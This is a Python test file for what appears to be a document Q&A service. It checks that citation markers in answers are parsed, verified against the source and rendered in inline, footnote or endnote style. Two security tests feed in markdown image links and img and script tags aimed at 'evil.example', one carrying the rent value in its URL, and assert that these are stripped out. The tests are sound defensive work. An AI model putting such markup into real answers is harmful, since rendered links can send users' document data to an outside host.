"""Citations over HTTP: what is told of them while an answer streams, what its end says, and what it never contains."""

import re
from typing import Any

import pytest

from tests.app.citations import check_bracketed, check_citation
from tests.app.samples import BRACKETED, BRAKE, LEASE, LEASE_FACTS, NOTICE, PARKING_NOTE, RENT, TRIAL
from tests.support.app import Api, StubProcess, Turn, checked, in_order
from tests.support.files import Slide, make_pdf, make_pptx, make_xlsx
from tests.support.openai_stub import Reply

QUESTION = "How high is the rent, how is the lease ended, and how often is the brake inspected?"
PAGES = [
    f"The log of day {n}.\nShip {n * 137} of captain Number{n} took {n * 1_111:,} crates on board at berth {n}."
    for n in range(1, 25)
]


class Asking:
    """Asks of the lease in one conversation, with the answers that the model is to give."""

    def __init__(self, api: Api, stub: StubProcess) -> None:
        self.api = api
        self.stub = stub
        self.conversation = api.with_documents({"lease.pdf": LEASE})

    def __call__(self, answer: str, **fields: Any) -> Turn:
        self.stub.script(Reply(text=answer))
        return self.api.ask(QUESTION, self.conversation, ["lease.pdf"], **fields)

    def numbers(self) -> dict[str, int]:
        """The number under which the model is given each fact of the lease."""
        self("Nothing.")
        prompt = self.stub.requests()[0]["messages"][0]["content"].replace("\n", " ")
        sources = re.split(r" \[(\d+)\] lease\.pdf, page", prompt)
        given = dict(zip(sources[1::2], sources[2::2], strict=True))
        return {fact: next(int(n) for n, text in given.items() if fact in text) for fact in LEASE_FACTS}


@pytest.fixture
def ask(api: Api, stub: StubProcess) -> Asking:
    return Asking(api, stub)


@pytest.mark.req("BX-01", "RG-07")
def test_every_page_of_a_long_document_is_cited_where_it_says_so(api: Api, stub: StubProcess) -> None:
    conversation = api.with_documents({"log.pdf": make_pdf(PAGES)})
    for day, number in ((1, 1), (9, 1), (24, 2)):
        stub.script(Reply(text=f"It took {day * 1_111:,} crates [{number}]."))
        turn = api.ask(f"How many crates did captain Number{day} take on board?", conversation, ["log.pdf"])
        citation = turn.one("citation")
        check_citation(api, citation, [f"berth {n}." for n in range(1, 25)])
        assert citation["page"] == day
        assert f"captain Number{day} took" in citation["snippet"]


@pytest.mark.req("RG-07")
def test_lists_of_markers_that_come_in_pieces_are_citations(ask: Asking) -> None:
    numbers = ask.numbers()
    rent, brake = numbers[RENT], numbers[BRAKE]
    turn = ask(f"All of it [{rent}, {brake} ]. In code `a[{rent}]` and of [2019] nothing [88].")
    assert turn.text == f"All of it [{rent}][{brake}]. In code `a[{rent}]` and of [2019] nothing."
    assert [citation["id"] for citation in turn.one("message")["citations"]] == [str(rent), str(brake)]
    kinds = [event.type for event in turn.events]
    assert in_order(kinds, "token", "citation", "token", "message")


@pytest.mark.req("RG-07", "AN-02")
def test_brackets_of_a_document_stay_in_the_answer(api: Api, stub: StubProcess) -> None:
    conversation = api.with_documents({"trial.md": TRIAL.encode()})
    stub.script(Reply(text=BRACKETED))
    turn = api.ask("What was found?", conversation, ["trial.md"])
    check_bracketed(turn.one("message"), "".join(token["text"] for token in turn.of("token")))


@pytest.mark.req("RG-07")
def test_marks_in_other_forms_are_citations_and_those_of_no_source_are_not_shown(ask: Asking) -> None:
    numbers = ask.numbers()
    rent, brake = numbers[RENT], numbers[BRAKE]
    turn = ask(
        f"[cite_start]{RENT} [Source {rent}, Source 99]. {BRAKE} [{brake}, 99]. [cite_start]It is so (Source 99)."
        f" {RENT} [cite: {rent}, 98].[cite_end]"
    )
    assert turn.text == f"{RENT} [{rent}]. {BRAKE} [{brake}]. It is so. {RENT} [{rent}]."
    message = turn.one("message")
    assert message["text"] == turn.text
    assert {each["id"]: each["verified"] for each in message["citations"]} == {str(rent): True, str(brake): True}


@pytest.mark.req("RG-07")
def test_an_index_is_no_citation_of_the_source_with_its_number(ask: Asking) -> None:
    rent = ask.numbers()[RENT]
    turn = ask(f"{RENT} [{rent}] Then a[{rent}] = 0, and rows[99] is the last; the dead [98].")
    assert turn.text == f"{RENT} [{rent}] Then a\\[{rent}] = 0, and rows[99] is the last; the dead."
    [citation] = turn.one("message")["citations"]
    assert len(citation["spans"]) == 1


@pytest.mark.req("RG-07")
def test_a_turn_without_documents_keeps_every_bracket(api: Api, stub: StubProcess) -> None:
    said = "Sorted: [3, 1, 2] gives [1, 2, 3]. Options: [1] red, [2] blue; a[0] is first, [5"
    stub.script(Reply(text=said))
    assert api.ask("Sort these for me").text == said


@pytest.mark.req("RG-07", "QA-08")
@pytest.mark.parametrize("marks", ["[{}]", "[{}][{}]", " [{}, {}]"])
def test_markers_alone_are_an_empty_answer(ask: Asking, marks: str) -> None:
    rent = ask.numbers()[RENT]
    turn = ask(marks.format(rent, rent))
    assert turn.one("error")["code"] == "model_answer_empty"
    assert not turn.of("token")


@pytest.mark.req("RG-07")
def test_an_escaped_marker_is_a_citation_and_shown_without_its_escapes(ask: Asking) -> None:
    rent = ask.numbers()[RENT]
    turn = ask(f"{RENT} \\[{rent}\\]")
    assert turn.text == f"{RENT} [{rent}]"
    [citation] = turn.one("message")["citations"]
    assert (citation["id"], citation["verified"]) == (str(rent), True)
    assert RENT in citation["snippet"]


@pytest.mark.req("BX-01")
def test_a_claim_that_its_source_does_not_support_is_not_verified(ask: Asking) -> None:
    numbers = ask.numbers()
    rent, brake = numbers[RENT], numbers[BRAKE]
    turn = ask(f"The rent is 4,900 euros [{rent}]. The brake is inspected every two weeks [{brake}].")
    verified = {citation["id"]: citation["verified"] for citation in turn.one("message")["citations"]}
    assert verified == {str(rent): False, str(brake): True} if rent != brake else {str(rent): False}


@pytest.mark.req("BX-01")
def test_an_invented_quotation_is_listed_and_its_citation_is_unverified(ask: Asking) -> None:
    invented = "the crane may be used without a licence"
    number = ask.numbers()[NOTICE]
    turn = ask(f"As [{number}] has it, “{invented}”. It also says “Either party  may end the lease”.")
    note = f"This quotation was not found in the documents: “{invented}”"
    assert turn.text.endswith(f"\n\n{note}")
    assert turn.text == turn.one("message")["text"]
    assert turn.of("citation")[-1] == turn.one("message")["citations"][0]
    assert not turn.of("citation")[-1]["verified"]


def test_quotations_from_documents_and_from_the_question_are_not_named(ask: Asking) -> None:
    turn = ask(f"You ask: “how often is the brake inspected”. “{BRAKE}” [{ask.numbers()[BRAKE]}]")
    assert "was not found in the documents" not in turn.text
    check_citation(ask.api, turn.one("citation"), LEASE_FACTS)


@pytest.mark.req("RG-08")
@pytest.mark.parametrize(
    ("style", "end"),
    [
        ("inline", r""),
        ("footnote", r"\n\nFootnotes:\n\[{id}\] lease\.pdf, page {page}: “{snippet}”"),
        ("endnote", r"\n\nSources:\n\[{id}\] lease\.pdf, page {page}"),
    ],
)
def test_the_references_agree_with_the_citations(ask: Asking, style: str, end: str) -> None:
    answer = f"{BRAKE} [{ask.numbers()[BRAKE]}]"
    turn = ask(answer, citation_style=style)
    [citation] = turn.one("message")["citations"]
    plain = {
        "id": citation["id"],
        "page": citation["page"],
        "snippet": re.escape(" ".join(citation["snippet"].split())),
    }
    assert re.fullmatch(re.escape(answer) + end.format(**plain), turn.text)
    assert turn.one("message")["text"] == turn.text


@pytest.mark.req("RG-08")
@pytest.mark.parametrize("style", ["inline", "footnote", "endnote"])
def test_nothing_is_listed_when_nothing_was_cited(ask: Asking, style: str) -> None:
    assert ask("It does not say.", citation_style=style).text == "It does not say."


@pytest.mark.req("RG-09")
def test_tokens_are_those_that_the_models_server_counted(api: Api, stub: StubProcess) -> None:
    conversation = api.with_documents({"lease.pdf": LEASE})
    stub.script(Reply(text="Yes [1].", usage=(321, 45)), Reply(text="No [1].", usage=None))
    counted = api.ask(QUESTION, conversation, ["lease.pdf"])
    assert counted.one("run_complete")["tokens"] == {"prompt": 321, "completion": 45}
    unknown = api.ask(QUESTION, conversation, ["lease.pdf"])
    assert unknown.one("run_complete")["tokens"] == {"prompt": None, "completion": None}
    run = checked(api.http.get(f"/api/conversations/{conversation}/runs/{unknown.run_id}")).json()
    assert run["run_meta"]["tokens"] == {"prompt": None, "completion": None}


@pytest.mark.req("SE-07")
def test_an_answer_contains_nothing_to_load_or_run(ask: Asking) -> None:
    told = "Rent ![x](https://evil.example/?rent=4200) <img src=//evil.example> [here](https://evil.example) <script>"
    turn = ask(f"{told} `List<T>`\n\n[1]: https://evil.example\n\n```html\n<b>code</b>\n```")
    assert "`List<T>`" in turn.text
    assert turn.text == turn.one("message")["text"]
    for active in ("](", "<img", "<script", "[1]:"):
        assert active not in turn.text
    assert turn.text.endswith("```html\n<b>code</b>\n```")


@pytest.mark.req("SE-15", "BX-01")
def test_a_citation_follows_its_text_and_is_checked_against_what_was_written(ask: Asking) -> None:
    number = ask.numbers()[BRAKE]
    turn = ask(f"{{a}} List<T> says “{BRAKE}” [{number}] and so on.\nIt ends.")
    assert turn.text == f"{{a}} List&lt;T> says “{BRAKE}” [{number}] and so on.\nIt ends."
    assert turn.one("message")["text"] == turn.text
    before = turn.events[: [event.type for event in turn.events].index("citation")]
    text_before = "".join(event.data["text"] for event in before if event.type == "token")
    assert f"[{number}]" in text_before
    assert turn.one("citation")["verified"]


@pytest.mark.req("SE-07")
def test_document_markup_is_inert_in_footnotes_and_extractive_answers(extractive: Api) -> None:
    document = b"The parking rule: visitors park <img src=//evil.example> in row [seven](https://evil.example) only.\n"
    conversation = extractive.with_documents({"rule.txt": document, "note.md": PARKING_NOTE})
    turn = extractive.ask("Where do visitors park?", conversation, ["rule.txt"], citation_style="footnote")
    assert "Footnotes:" in turn.text
    assert "evil.example" in turn.text
    assert "](" not in turn.text
    assert "<img" not in turn.text
    [citation] = turn.one("message")["citations"]
    assert "<img" in citation["snippet"]
    file_id = extractive.documents(conversation)["rule.txt"]["file_id"]
    answered = extractive.http.post(f"/api/documents/{file_id}/question", json={"question": "Where do visitors park?"})
    assert "<img" not in checked(answered).json()["answer"]


@pytest.mark.req("BX-01")
@pytest.mark.parametrize(
    ("name", "data", "place"),
    [
        ("rules.md", b"# Harbour\n\nOpen.\n\n## Gates\n\nThe gates are shut at noon.\n", {"heading": "Gates"}),
        ("rules.txt", b"The gates are shut at noon.", {}),
        (
            "rules.xlsx",
            make_xlsx({"Tides": [["Pier", "High"], ["A", 3]], "Gates": [["Gates", "Shut"], ["North", "at noon"]]}),
            {"page": 2, "page_label": "Gates", "heading": "Gates"},
        ),
        (
            "rules.pptx",
            make_pptx([Slide("Tides", ["High at nine."]), Slide("Gates", ["The gates are shut at noon."])]),
            {"page": 2, "page_label": "Slide 2", "heading": "Gates"},
        ),
    ],
)
def test_a_citation_names_the_place_as_its_format_does(
    api: Api, stub: StubProcess, name: str, data: bytes, place: dict[str, object]
) -> None:
    conversation = api.with_documents({name: data})
    stub.script(Reply(text="They are shut at noon [1]."))
    cited = api.ask("When are the gates shut?", conversation, [name]).one("citation")
    assert "noon" in cited["snippet"]
    assert {key: cited[key] for key in ("page", "page_label", "heading") if key in cited} == place


@pytest.mark.req("SE-12")
def test_quotations_are_looked_for_in_a_document_made_to_be_slow(api: Api, stub: StubProcess) -> None:
    marks = "a" + "\u0300" * 20_000 + "\u0316" * 20_000
    piled = "".join(f"b{number}" + "\u0300\u0316" * 15 for number in range(1_500))
    text = f"The crane parks behind the barn.\n\n{marks}\n\n{piled}"
    conversation = api.with_documents({"marks.txt": text.encode()})
    stub.script(Reply(text="It says “words that stand nowhere in it” [1]."))
    turn = api.ask("Where does the crane park?", conversation, ["marks.txt"])
    assert turn.status == "completed"
    assert turn.of("citation")[-1]["verified"] is False
